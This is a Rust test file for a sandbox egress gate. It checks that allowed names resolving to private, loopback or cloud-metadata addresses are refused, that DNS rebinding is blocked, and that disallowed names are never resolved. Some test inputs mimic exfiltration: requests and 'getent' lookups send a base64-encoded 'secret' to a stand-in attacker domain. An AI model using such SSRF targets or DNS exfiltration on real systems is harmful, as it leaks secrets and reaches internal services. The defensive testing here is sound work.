//! Names that lead where no name may lead: the operator's own networks. A name is decided
//! on, resolved once by the gate, its address classified, and that address dialled.

use outwall_tests::{Outwall, TestOrigin, TestResolver};

use crate::{as_each_user, outwall};

const HOST: &str = "api.example.test";

/// `HOST` is allowed at the origin's plaintext port, and these private addresses with it.
fn story(origin: &TestOrigin, resolver: &TestResolver, excepted: &[&str]) -> Outwall {
    let port = origin.plain_address().port();
    outwall()
        .policy(&format!(
            "[environments.default]\nnetwork = \"custom\"\nallowed_domains = [\"*.example.test:{port}\"]\nallowed_addresses = {excepted:?}\n"
        ))
        .resolver(resolver)
}

fn url(origin: &TestOrigin) -> String {
    format!("http://{HOST}:{}/", origin.plain_address().port())
}

#[test]
fn a_public_name_that_leads_to_a_private_address_is_refused_unless_excepted() {
    for addresses in [
        &["127.0.0.1"][..],
        &["::ffff:127.0.0.1"],
        &["64:ff9b::7f00:1"],
        &["10.0.0.1"],
        &["169.254.169.254"],
    ] {
        let origin = TestOrigin::start();
        let resolver = TestResolver::start(&[(HOST, &[addresses])]);
        let outwall = story(&origin, &resolver, &[]);
        let refused = outwall.gate().client().get(&url(&origin));
        assert_eq!(
            (refused.status(), refused.reason()),
            (403, "address-refused"),
            "{addresses:?}"
        );
        assert_eq!(origin.requests().len(), 0);
        assert_eq!(outwall.audit_of("denied").len(), 1);
    }
    let origin = TestOrigin::start();
    let resolver = TestResolver::start(&[(HOST, &[&["127.0.0.1"]])]);
    let allowed = story(&origin, &resolver, &["127.0.0.1/32"])
        .gate()
        .client()
        .get(&url(&origin));
    assert_eq!(allowed.status(), 200);
}

#[test]
fn a_private_address_among_public_ones_is_not_dialled() {
    let origin = TestOrigin::start();
    // 127.0.0.2 is excepted and nobody listens there: the public one, so to say.
    let resolver = TestResolver::start(&[(HOST, &[&["127.0.0.2", "127.0.0.1"]])]);
    let outwall = story(&origin, &resolver, &["127.0.0.2/32"]);
    let response = outwall.gate().client().get(&url(&origin));
    assert_ne!(response.status(), 200);
    assert_eq!(origin.requests().len(), 0);
}

#[test]
fn the_address_that_was_checked_is_the_address_that_is_dialled() {
    let origin = TestOrigin::start();
    // An attacker's server answers well when it is checked, and otherwise when it is dialled.
    let resolver = TestResolver::start(&[(HOST, &[&["127.0.0.1"], &["10.0.0.1"]])]);
    let outwall = story(&origin, &resolver, &["127.0.0.1/32"]);
    assert_eq!(outwall.gate().client().get(&url(&origin)).status(), 200);
    let lookups = resolver
        .asked()
        .into_iter()
        .filter(|asked| asked == &format!("A {HOST}"))
        .count();
    assert_eq!(lookups, 1, "{:?}", resolver.asked());
}

#[test]
fn nothing_is_looked_up_for_a_name_that_is_not_allowed() {
    let origin = TestOrigin::start();
    let resolver = TestResolver::start(&[(HOST, &[&["127.0.0.1"]])]);
    let outwall = story(&origin, &resolver, &["127.0.0.1/32"]);
    let gate = outwall.gate();
    assert_eq!(gate.client().get("http://c2VjcmV0.evil.test/").status(), 403);
    assert_eq!(gate.client().get("https://c2VjcmV0.evil.test/").status(), 403);
    assert_eq!(
        gate.client().get("http://c2VjcmV0.example.test/").reason(),
        "port-not-allowed"
    );
    assert_eq!(resolver.asked(), Vec::<String>::new());
    assert_eq!(gate.client().get(&url(&origin)).status(), 200);
    assert!(!resolver.asked().is_empty());
}

#[test]
fn a_name_without_an_address_is_told_apart_from_a_refusal() {
    let origin = TestOrigin::start();
    let resolver = TestResolver::start(&[]);
    let outwall = story(&origin, &resolver, &["127.0.0.1/32"]);
    let response = outwall.gate().client().get(&url(&origin));
    assert_eq!((response.status(), response.reason()), (502, "unresolved-name"));
}

#[test]
fn a_sandboxs_own_lookups_reach_no_resolver() {
    as_each_user(|outwall| {
        let resolver = TestResolver::start(&[(HOST, &[&["127.0.0.1"]])]);
        let outwall = outwall.allowing(&[HOST]).resolver(&resolver);
        let script = format!("getent hosts c2VjcmV0.evil.test; getent ahosts {HOST}; getent hosts x.{HOST}");
        let finished = outwall.shell(&["--quiet"], &script);
        assert!(finished.stdout.contains("c2VjcmV0.evil.test"), "{finished:?}");
        assert_eq!(resolver.asked(), Vec::<String>::new());
        let dns = outwall.audit_of("dns");
        assert!(
            dns.iter().any(|record| record.to_string().contains("evil.test")),
            "{dns:#?}"
        );
    });
}
